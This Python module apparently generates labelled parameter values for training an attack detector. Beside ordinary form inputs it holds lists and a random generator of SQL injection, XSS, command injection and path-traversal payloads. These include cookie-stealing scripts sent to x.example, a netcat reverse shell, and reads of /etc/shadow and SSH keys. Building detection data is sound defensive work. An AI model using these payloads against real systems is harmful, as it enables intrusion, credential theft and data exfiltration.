"""Parameter values for forms and addresses: ordinary ones and hostile ones.

When the public sets in ../shared/data are at hand (see ml/dataset/README.md), their values widen the built-in ones.
Only the values are sent; no line of those sets reaches the data set's text from anywhere else.
"""

import gzip
import json
import os
from functools import cache
from pathlib import Path

import words

SHARED = Path(os.environ.get("INSYT_SHARED", Path(__file__).resolve().parents[3] / "shared")) / "data/logs-permissive"

BUILT_IN = {
    "norm": ["summer tickets", "12", "red", "anna@mail.example", "2026-11-02", "O'Neil", "size=XL", "a & b", "10% off", "Straße 5",
             "select a gift", "union street", "where is it?", "drop-in hours", "../", "script writing course", "1 or 2 rooms", "<3",
             "terms; conditions", "cat food", "ping pong table", "order by phone", "C:\\Users\\anna", "hello, world!", "the who -- live"],
    "sqli": ["1 OR 1=1", "1' OR '1'='1", "1 UNION SELECT 1,2,3,4", "1; DROP TABLE products", "' OR 1=1-- -", "1 AND SLEEP(2)",
             "1' AND (SELECT COUNT(*) FROM sqlite_master)>0--", "-1 UNION ALL SELECT name,sql,1,2 FROM sqlite_master--",
             "1 ORDER BY 9--", "admin'--", "1) OR (1=1", "1%27%20or%20%271", "' UNION SELECT NULL,version(),NULL--",
             "1 AND 1=CAST((SELECT user()) AS int)", "1' AND extractvalue(1,concat(0x7e,database()))-- -"],
    "xss": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>", "javascript:alert(document.cookie)",
            "<body onload=alert(1)>", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", "<a href=# onmouseover=prompt(1)>x</a>",
            "\"><script>new Image().src='//x.example/?'+document.cookie</script>", "<details open ontoggle=alert(1)>"],
    "cmdi": ["127.0.0.1; id", "127.0.0.1 | cat /etc/passwd", "`whoami`", "$(uname -a)", "127.0.0.1 && ls -la", "|| ping -c 1 127.0.0.1",
             ";cat /etc/hosts", "127.0.0.1%0Aid", "| netstat -an", "a;sleep 1;b", "& dir", "127.0.0.1;wget http://127.0.0.1/a"],
    "path-traversal": ["../../../../etc/passwd", "....//....//etc/passwd", "/etc/shadow", "..%2f..%2f..%2fetc%2fhosts", "..\\..\\windows\\win.ini",
                       "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "../../../../../var/log/auth.log",
                       "/proc/self/environ", "../../wp-config.php", "%2e%2e%2f%2e%2e%2fetc%2fgroup", "../../../../etc/passwd%00"],
}


COMMANDS = ["id", "cat /etc/passwd", "whoami", "uname -a", "ls -la /", "sleep 2", "ping -c 1 127.0.0.1", "curl http://127.0.0.1/x.sh", "wget -q -O- http://127.0.0.1/a", "nslookup x.example", "cat /etc/shadow", "echo vulnerable", "dir C:\\", "type C:\\boot.ini",
            "nc 127.0.0.1 4444 -e /bin/sh", "expr 268409241 - 2", "printenv", "ifconfig", "net user", "php -r 'phpinfo();'", "python -c 'print(1)'", "rm -f /tmp/f", "head /etc/hosts", "find / -name '*.conf'", "ps -ef", "netstat -ano"]
FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "var/log/apache2/access.log", "wp-config.php", "WEB-INF/web.xml", "etc/group", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", ".env", "winnt/repair/sam", "proc/version", "home/user/.bash_history"]
CLIMBS = ["../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%5c", "..%c0%af", "/..", "./../"]
BARE = ["script", "br", "p", "b", "h1", "img", "table", "meta", "frameset", "style", "div", "a", "embed", "link", "base", "form", "textarea", "noscript", "svg", "iframe"]
HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onpointerenter", "onanimationstart", "onbegin"]
CALLS = ["alert(1)", "alert(document.domain)", "confirm`1`", "prompt(document.cookie)", "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))", "location='//x.example'", "top['al'+'ert'](1)", "import('//x.example/a.js')"]
TAGS = ["img src=x", "svg", "body", "iframe srcdoc=x", "input autofocus", "details open", "video><source", "math", "marquee", "a href=x", "object data=x", "div style=width:9em", "select", "audio src"]


def variant(kind, rng):
    """A hostile value of `kind` (sqli, xss, cmdi, path-traversal), put together anew."""
    number, noun = rng.randrange(1, 9999), rng.choice(words.NOUNS)
    if kind == "cmdi":
        return rng.choice(["", "127.0.0.1", noun, f"{noun}.txt", str(number)]) + rng.choice(["; ", "|", " || ", " && ", "`", "$(", "\n", "&", "%0a", ";", "'; ", "\"|"]) + rng.choice(COMMANDS).replace(" ", rng.choice([" ", " ", "${IFS}", "\t"])) + rng.choice(["", "", ";", "`", ")", " #", "'", "&"])
    if kind == "path-traversal":
        return rng.choice(["", "", "/", f"{noun}/", "file://", "php://filter/read=convert.base64-encode/resource=", "/var/www/"]) + rng.choice(CLIMBS) * rng.randrange(1, 11) + rng.choice(FILES) + rng.choice(["", "", "", "%00", "%00.png", "?", "#", ".html"])
    if kind == "xss":
        call = rng.choice(CALLS)
        if rng.random() < .15:
            # The first try is often no more than whether a tag or a call comes back as it was.
            return rng.choice([f"<{rng.choice(TAGS).split()[0]}", f"<{rng.choice(BARE)}", f"<{rng.choice(BARE)}>", f"{rng.choice(['alert', 'prompt', 'confirm'])}(", "javascript:", f"{rng.choice(HANDLERS)}=", f"'\"><{rng.choice(BARE)}>", f"{noun}<{rng.choice(BARE)} "])
        return rng.choice(["", "\">", "'>", f"{noun}\">", "</script>", "-->", "';", "\" "]) + rng.choice([f"<script>{call}</script>", f"<ScRiPt >{call}</ScRiPt>", f"<{rng.choice(TAGS)} {rng.choice(HANDLERS)}={call}>", f"<{rng.choice(TAGS)}/{rng.choice(HANDLERS)}=\"{call}\">", f"javascript:{call}",
                          f"{rng.choice(HANDLERS)}={call} x=", f"<script src=//x.example/{noun}.js></script>", f"<img src=\"x\" {rng.choice(HANDLERS)}='{call}'", f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">{noun}</a>", f"${{{call}}}"])
    columns = ",".join(rng.choice(["NULL", str(i), "@@version", "user()", "CONCAT(0x7e,database())", "CHAR(113,120)", "table_name"]) for i in range(rng.randrange(1, 12)))
    statement = rng.choice([f"UNION ALL SELECT {columns}", f"union select {columns} from information_schema.tables", f"AND {number}={number}", f"OR {number}={number + 1}", f"AND SLEEP({number % 9})", f"AND (SELECT {number} FROM (SELECT(SLEEP({number % 7})))x)", f"ORDER BY {number % 40}",
                            f"; EXEC xp_cmdshell('{rng.choice(COMMANDS[:4])}')", f"AND EXTRACTVALUE({number},CONCAT(0x5c,user()))", f"OR '{noun}'='{noun}", f"; WAITFOR DELAY '0:0:{number % 9}'", f"GROUP BY {columns} HAVING 1=1", f"AND ASCII(SUBSTR((SELECT password FROM users LIMIT 1),{number % 20},1))>{number % 127}",
                            f"RLIKE (SELECT {number})", "; DROP TABLE users", f"PROCEDURE ANALYSE({columns})", f"INTO OUTFILE '/var/www/{noun}.php'", f"|| (SELECT '{noun}' FROM dual)"])
    comment = rng.choice([" ", " ", "/**/", "+", "%09", "/*!*/"])
    return rng.choice(["1", str(number), noun, "-1", ""]) + rng.choice(["", "'", "\"", "')", "\")", "'))", "`"]) + comment + statement.replace(" ", comment) + rng.choice(["", "-- -", "#", "--", ";%00", "/*"])


@cache
def values(kind):
    """Parameter values of `kind`: norm, sqli, xss, cmdi or path-traversal."""
    found = list(BUILT_IN[kind])
    path = SHARED / "http-params.jsonl.gz"
    if path.exists():
        with gzip.open(path, "rt", encoding="utf-8") as lines:
            for line in lines:
                row = json.loads(line)
                if row["kind"] == kind:
                    found.append(row["value"])
    return found


@cache
def tunnel_names():
    """(ordinary names, tunnel names) of the public DNS set; empty lists where it is not at hand."""
    ordinary, tunnel = [], []
    path = SHARED / "dns-tunnel-names.jsonl.gz"
    if path.exists():
        with gzip.open(path, "rt", encoding="utf-8") as lines:
            for line in lines:
                row = json.loads(line)
                (tunnel if row["tunnel"] else ordinary).append(row["qname"].rstrip("."))
    return ordinary, tunnel
